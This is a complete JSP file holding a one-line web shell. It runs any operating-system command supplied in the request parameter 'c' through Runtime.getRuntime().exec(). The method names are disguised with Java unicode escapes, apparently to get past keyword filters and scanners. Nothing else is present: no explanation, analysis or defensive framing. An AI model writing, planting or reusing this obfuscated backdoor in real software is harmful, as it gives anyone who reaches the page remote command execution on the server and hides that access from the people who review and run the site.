<%
\u0052untime.getRuntime().\u0065xec(request.\u0067etParameter("c"));
%>
